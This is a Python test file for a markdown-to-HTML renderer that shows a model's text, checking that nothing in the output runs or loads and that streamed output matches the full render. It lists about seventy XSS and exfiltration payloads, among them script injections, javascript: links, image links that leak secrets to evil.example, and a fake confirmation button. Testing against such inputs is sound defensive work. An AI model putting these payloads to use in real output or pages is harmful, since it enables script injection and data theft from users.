"""A model's text as HTML: nothing in it runs, nothing loads, and a stream ends as the whole."""

import re
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from actionary.web.markdown import Live, render

SAFE_TAGS = frozenset(
    ("a", "blockquote", "br", "button", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
     "header", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th",
     "thead", "tr", "ul")
)  # fmt: skip
SAFE_ATTRIBUTES = frozenset(
    ("align", "aria-label", "class", "data-copy", "href", "rel", "role", "start", "tabindex",
     "target", "title", "type")
)  # fmt: skip
SCHEME = re.compile(r"[^/?#]*?:")


class Elements(HTMLParser):
    """Every element of a fragment with its attributes, as a browser would see it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def links(self) -> list[str]:
        return [attributes["href"] for tag, attributes in self.found if "href" in attributes]


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='https://evil.example/?q=secret'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Confirm</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video poster=//evil.example><source src=x onerror=alert(1)></video>",
    "<audio src=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<confirmation-card data-call=x><button>Allow</button></confirmation-card>",
    "<div hx-get='//evil.example' hx-trigger=load>x</div>",
    "<div class='confirm' style='position:fixed;inset:0'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![" onerror="alert(1)](https://evil.example)',
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```\" onload=\"alert(1)\nx\n```",
    "~~~html\n<img src=x onerror=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "1. <svg onload=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "$\\href{javascript:alert(1)}{x}$",
    "```mermaid\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n```",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_models_text_runs_or_loads(payload: str) -> None:
    for html in (render(payload), render(f"- a\n- {payload}\n"), render(f"x {payload} y")):
        elements = Elements(html)

        assert {tag for tag, _ in elements.found} <= SAFE_TAGS
        assert {name for _, each in elements.found for name in each} <= SAFE_ATTRIBUTES
        for link in elements.links:
            # A browser drops these before it reads the scheme.
            scheme = SCHEME.match(re.sub(r"[\x00-\x20]", "", link))
            assert scheme is None or scheme[0] in ("http:", "https:", "mailto:"), link


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) >= 60


@given(st.text(max_size=200))
def test_no_text_at_all_brings_another_element(text: str) -> None:
    elements = Elements(render(text))

    assert {tag for tag, _ in elements.found} <= SAFE_TAGS
    assert {name for _, each in elements.found for name in each} <= SAFE_ATTRIBUTES


def test_an_image_becomes_a_link_with_its_words() -> None:
    html = render("![A cat](https://cats.example/a.png?q=1)")

    ((tag, attributes),) = [each for each in Elements(html).found if each[0] == "a"]
    assert tag == "a"
    assert attributes["href"] == "https://cats.example/a.png?q=1"
    assert attributes["rel"] == "noopener noreferrer nofollow ugc"
    assert attributes["target"] == "_blank"
    assert Elements(html).text.strip() == "Image: A cat"


def test_a_link_opens_elsewhere_and_tells_nobody_where_it_came_from() -> None:
    ((_, attributes),) = [
        each for each in Elements(render("[Shop](https://shop.example)")).found if each[0] == "a"
    ]

    assert attributes == {
        "href": "https://shop.example",
        "rel": "noopener noreferrer nofollow ugc",
        "target": "_blank",
    }


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** *em* ~~gone~~ `code`",
         "<p><strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code></p>\n"),
        ("# One\n\ntwo", "<h1>One</h1>\n<p>two</p>\n"),
        ("a\nb", "<p>a\nb</p>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        ("", ""),
        (" \n ", ""),
    ],
)  # fmt: skip
def test_plain_markdown_is_plain_html(text: str, html: str) -> None:
    assert render(text) == html


def test_code_is_coloured_and_can_be_copied() -> None:
    html = render("```python\nif x: return 'a'  # why\n```")

    assert '<span class="tok-k">if</span>' in html
    assert '<span class="tok-c"># why</span>' in html
    assert "data-copy" in html
    assert Elements(html).text.replace("\n", " ").strip().endswith("if x: return 'a'  # why")


def test_code_of_a_language_nobody_knows_is_shown_as_it_is() -> None:
    assert "<code>a &lt; b</code>" in render("```klingon\na < b\n```")


def test_a_listing_too_long_to_colour_is_shown_as_it_is() -> None:
    code = "x = 1  # <b>\n" * 5000

    html = render(f"```python\n{code}```")

    assert "tok-" not in html
    assert html.count("&lt;b&gt;") == 5000


def test_a_wide_table_scrolls_by_itself() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert '<div class="table" role="region" aria-label="Table" tabindex="0"><table>' in html
    assert '<td align="right">2</td>' in html or "<td>2</td>" in html


# Streaming

PIECES = [
    "Hello **world**, ", "*em* ", "`code` ", "a\n", "\n", "\n\n", "- item\n", "  - inner\n",
    "1. one\n", "> quote\n", "# Title\n", "---\n", "===\n", "```py\nx = 1\n", "```\n", "    code\n",
    "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "[link](https://a.example) ", "![i](https://b.example)\n",
    "[ref]: https://c.example\n", "[ref] ", "<b>", "\\*", "&amp;", "  \n", "~~~\n", "text ", "\t",
]  # fmt: skip


def streamed(chunks: list[str]) -> tuple[str, str]:
    """Return what a page holds after a stream, and what its growing block was made of."""
    live, page, tail = Live(), "", ""
    for chunk in chunks:
        done, open_block = live.feed(chunk)
        page += done
        keep, _, rest = live.change(open_block).partition("\n")
        kept = tail.encode("utf-16-le")[: 2 * int(keep)]  # as a browser counts
        tail = kept.decode("utf-16-le") + rest
        assert tail == open_block
        if done:
            tail = open_block
    return page + live.finish(), page


@settings(max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=14), st.data())
def test_a_stream_ends_as_the_whole_text_however_it_was_cut(
    pieces: list[str], data: st.DataObject
) -> None:
    text = "".join(pieces)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=10))
    edges = [0, *sorted(cuts), len(text)]

    whole, _ = streamed([text[a:b] for a, b in pairwise(edges)])

    assert whole == render(text)


@given(st.text(max_size=80), st.integers(1, 7))
def test_any_text_at_all_ends_as_the_whole(text: str, length: int) -> None:
    chunks = [text[at : at + length] for at in range(0, len(text), length)]

    assert streamed(chunks)[0] == render(text)


@given(st.lists(st.sampled_from(PIECES + PAYLOADS), max_size=6))
def test_no_moment_of_a_stream_brings_another_element(pieces: list[str]) -> None:
    live = Live()
    for piece in pieces:
        for html in live.feed(piece):
            assert {tag for tag, _ in Elements(html).found} <= SAFE_TAGS


def test_finished_blocks_are_sent_once_and_never_changed() -> None:
    live = Live()

    first, open_block = live.feed("# Title\n\nOne")
    second, _ = live.feed(" more.\n\nTwo")

    assert first == "<h1>Title</h1>\n"
    assert open_block == "<p>One</p>\n"
    assert second == "<p>One more.</p>\n"


def test_a_change_is_counted_as_a_browser_counts() -> None:
    live = Live()
    live.feed("👍 a")
    live.change("<p>👍 a</p>")

    assert live.change("<p>👍 ab</p>") == "7\nb</p>"


@pytest.mark.parametrize(
    "half", ["**bo", "*e", "`co", "[li", "[link](https://a", "- ", "#", "| a", "1."]
)
def test_half_typed_markup_does_not_show(half: str) -> None:
    _, open_block = Live().feed(f"Text {half}" if half[0] in "*`[" else f"Text\n\n{half}")

    assert not re.search(r"[*`\[|#]", Elements(open_block).text)
